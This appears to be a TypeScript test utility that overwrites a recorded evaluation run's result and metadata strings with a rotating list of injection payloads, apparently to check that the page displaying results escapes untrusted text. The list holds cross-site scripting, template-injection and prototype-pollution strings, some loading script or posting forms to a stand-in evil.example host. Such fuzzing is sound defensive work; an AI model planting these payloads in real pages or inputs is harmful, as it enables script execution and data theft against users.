/** Turns a recorded evaluation into one whose every text tries to become markup, script, address or style of the page that shows it. */
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '"><svg onload=alert(3)>',
  'javascript:alert(4)',
  '</script><script src="https://evil.example/x.js"></script>',
  '&lt;b&gt;bold&lt;/b&gt;&amp;&#x3c;',
  '<iframe srcdoc="<script>parent.alert(5)</script>"></iframe>',
  "' onmouseover='alert(6)' x='",
  '<style>*{display:none!important}</style>',
  '<a href="javascript:alert(7)">go</a><base href="https://evil.example/">',
  '<form action="https://evil.example"><button>send</button></form>',
  '<!-- <![CDATA[ ]]> --> </template></title></textarea></noscript>',
  '\u202e\u2066evil\u0000\u001b[31m\u0007 \u200b\ufeff',
  '${alert(8)} {{constructor.constructor("alert(9)")()}}',
  '__proto__',
  'constructor',
  '<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content="0;url=https://evil.example">',
  '\u0645\u0631\u062d\u0628\u0627 <think>\n\n\n</think> <answer>',
  'a'.repeat(5000),
] as const;

/** What the page and the server look things up by, or what says how to read the rest. */
const KEPT: ReadonlySet<string> = new Set(['rollout_id', 'group_id', 'turn_format', 'type', 'sha256', 'started_at', 'updated_at', 'config_digest']);

type Json = string | number | boolean | null | readonly Json[] | { readonly [key: string]: Json };

/** Every text becomes the next payload, and so does every name of a metric. */
function poisoned(value: Json, next: () => string, key = ''): Json {
  if (typeof value === 'string') return KEPT.has(key) ? value : next();
  if (Array.isArray(value)) return value.map((one: Json) => poisoned(one, next));
  if (typeof value !== 'object' || value === null) return value;
  const entries = Object.entries(value).map(([name, one]) => [key === 'metrics' ? next() : name, poisoned(one, next, name)] as const);
  return Object.fromEntries(entries);
}

export async function poisonRun(folder: string): Promise<void> {
  let count = 0;
  const next = () => PAYLOADS[count++ % PAYLOADS.length]!;
  const results = join(folder, 'results.jsonl');
  const lines = (await readFile(results, 'utf8')).trimEnd().split('\n');
  const written = lines.map((line) => JSON.stringify(poisoned(JSON.parse(line) as Json, next)));
  await writeFile(results, `${written.join('\n')}\n`);
  // The rest of the metadata has fixed words, which a schema checks.
  const metadata = join(folder, 'metadata.json');
  const { environment, ...rest } = JSON.parse(await readFile(metadata, 'utf8')) as Record<string, Json>;
  await writeFile(metadata, JSON.stringify({ ...rest, env_id: PAYLOADS[1], model: PAYLOADS[2], environment: poisoned(environment!, next) }));
}
